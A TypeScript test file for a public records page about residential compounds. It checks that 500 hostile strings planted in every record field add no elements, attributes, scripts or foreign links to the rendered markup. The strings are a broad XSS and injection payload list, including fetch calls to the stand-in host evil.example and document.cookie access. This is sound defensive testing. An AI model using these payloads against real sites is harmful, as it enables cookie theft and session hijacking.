import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { makePublicScene } from "../../src/domain/public/make_scene";
import { searchPublic } from "../../src/domain/public/search";
import { isReportAddress } from "../../src/domain/public/site_rules";
import { DEFAULT_PUBLIC_VIEW } from "../../src/domain/public/view";
import type { PublicRecords } from "../../src/domain/public_records";
import { Card } from "../../src/public_page/card/Card";
import { outlineQr } from "../../src/public_page/card/outline_qr";
import { FindView } from "../../src/public_page/find/FindView";
import { PageFrame } from "../../src/public_page/frame/PageFrame";
import { encodeText } from "../../src/public_page/page_props";
import { makePublicText } from "../../src/text/public_text";
import { project, publicRecords, published } from "../fixtures/toy_public";

const SCRIPTS = ["alert(1)", "fetch('//evil.example')", "document.cookie", "top.location=1", "import('x')"];
const SHELLS: readonly ((script: string) => string)[] = [
	(s) => `<script>${s}</script>`,
	(s) => `</script><script>${s}</script>`,
	(s) => `<img src=x onerror="${s}">`,
	(s) => `<svg/onload=${s}>`,
	(s) => `"><svg onload=${s}>`,
	(s) => `' onfocus=${s} autofocus '`,
	(s) => `" style="background:url(javascript:${s})`,
	(s) => `javascript:${s}`,
	(s) => `JaVaScRiPt:${s}`,
	(s) => `\tjavascript:${s}`,
	(s) => `data:text/html,<script>${s}</script>`,
	(s) => `vbscript:${s}`,
	(s) => `<a href="javascript:${s}">x</a>`,
	(s) => `<iframe srcdoc="<script>${s}</script>">`,
	(s) => `<object data="javascript:${s}">`,
	(s) => `<math><mtext><style><img src=x onerror=${s}>`,
	(s) => `<!--><img src=x onerror=${s}>-->`,
	(s) => `<![CDATA[<script>${s}</script>]]>`,
	(s) => `{{constructor.constructor('${s}')()}}`,
	(s) => `\${${s}}`,
	(s) => `&lt;script&gt;${s}&lt;/script&gt;`,
	(s) => `&#60;script&#62;${s}`,
	(s) => `%3Cscript%3E${s}%3C/script%3E`,
	(s) => `../../${s}`,
	(s) => `//evil.example/${s}`,
	(s) => `https://evil.example/${s}`,
	(s) => `\\\\evil.example\\${s}`,
	(s) => `?sel=${s}#${s}`,
	(s) => `=HYPERLINK("${s}")`,
	(s) => `\u202e${s}\u202c`,
	(s) => `\u0000${s}`,
	(s) => `\ud800${s}`,
	(s) => `${s}\r\nBcc: a@b.cn`,
	(s) => `{name}${s}{id}{field}`,
	(s) => `$&${s}$1`,
	(s) => `__proto__${s}`,
	(s) => `<base href="//evil.example/">${s}`,
	(s) => `<meta http-equiv=refresh content="0;url=javascript:${s}">`,
	(s) => `<form action="javascript:${s}"><input type=submit>`,
	(s) => `<link rel=stylesheet href="data:,${s}">`,
	(s) => `<details open ontoggle=${s}>`,
	(s) => `<template shadowrootmode=open><script>${s}</script></template>`,
	(s) => `<textarea><img src=x onerror=${s}>`,
	(s) => `<noscript><p title="</noscript><img src=x onerror=${s}>">`,
	(s) => `<plaintext>${s}`,
	(s) => `</ol></main>${s}`,
	(s) => `&nbsp;<b>${s}</b>`,
	(s) => `<ruby>${s}<rt>x`,
	(s) => `tel:${s}`,
	(s) => `mailto:${s}`,
];
const PAYLOADS = [
	...SHELLS.flatMap((shell) => SCRIPTS.map(shell)),
	...SHELLS.flatMap((shell) => SCRIPTS.map((s) => `柏园${shell(s)}院`)),
];

/** Records that carry one text in every place that takes one. */
function plant(text: string, id: string, report: string | null = null): PublicRecords {
	const both = { zh: text, en: text };
	const base = publicRecords(
		[
			published(id, "west", {
				name: text,
				alias: text,
				address: text,
				community: text,
				manager: text,
				management: "owners",
				builtDecade: 1980,
			}),
			published("B", text, { name: "Ω院", management: "owners", builtDecade: 1980 }),
		],
		{ projects: [project(id, { year: 2018 })] },
	);
	const { district } = base;
	return {
		...base,
		district: {
			...district,
			name: both,
			title: both,
			source: both,
			approval: text,
			dataDate: text,
			officeLine: text,
			site: { ...district.site, report },
			subdistricts: district.subdistricts.map((one) => ({ ...one, name: both, aliases: [text] })),
		},
	};
}

const ignore = () => undefined;
const noEvents = { onType: ignore, onFilter: ignore, onReset: ignore, onShow: ignore, onOpen: ignore };

/** The page with a card open: every other time with the list by sub-district, else with one compound found. */
function draw(records: PublicRecords, id: string, n: number): string {
	const lang = n % 4 < 2 ? "zh" : "en";
	const text = makePublicText(lang);
	const page = { lang, text, root: "./" } as const;
	const matches = new Map(
		searchPublic(records, null)
			.find("Ω")
			.map((one) => [one.id, one]),
	);
	const scene = makePublicScene(records, { ...DEFAULT_PUBLIC_VIEW, sel: id }, null);
	if (!scene.selection) throw new Error("The compound is not there.");
	return renderToStaticMarkup(
		<PageFrame district={records.district} lang={lang} page={{ kind: "find" }}>
			<FindView
				{...{ ...page, scene, typed: "Ω", show: null, events: noEvents, notices: null, map: null }}
				card={<Card {...page} selection={scene.selection} records={records} heading={2} />}
				matches={n % 2 === 0 ? matches : null}
			/>
		</PageFrame>,
	);
}

/** Elements and attributes of a page. */
function shapeOf(markup: string): string[] {
	const held = new DOMParser().parseFromString(markup, "text/html");
	return [...held.querySelectorAll("*")].map(
		(one) => `${one.tagName} ${one.getAttributeNames().sort().join(" ")}`,
	);
}

describe("whatever a text of the records says", () => {
	test("it stays a text: 500 hostile ones in every field make no element and no attribute more", () => {
		const harmless = [0, 1, 2, 3].map((n) => shapeOf(draw(plant("一院", "A"), "A", n)));
		expect(new Set(PAYLOADS).size).toBe(500);
		for (const [n, text] of PAYLOADS.entries())
			expect([text, shapeOf(draw(plant(text, "A"), "A", n))]).toEqual([text, harmless[n % 4]]);
	}, 120_000);

	test("no way of the page leads to a script, or to another host than the one the operator takes reports at", () => {
		for (const [n, text] of PAYLOADS.entries()) {
			const markup = draw(plant(text, text, text), text, n);
			for (const [, way = ""] of markup.matchAll(/<[^>]* href="([^"]*)"/g))
				if (!isReportAddress(text) || !way.startsWith(text)) expect(way).toMatch(/^(#|\.\.?\/|tel:\+?\d+$)/);
		}
	}, 120_000);

	test("a code is made of it, and nothing fails", () => {
		for (const text of PAYLOADS) expect(outlineQr(`https://x.cn/?sel=${encodeText(text)}`)).not.toBeNull();
	});
});
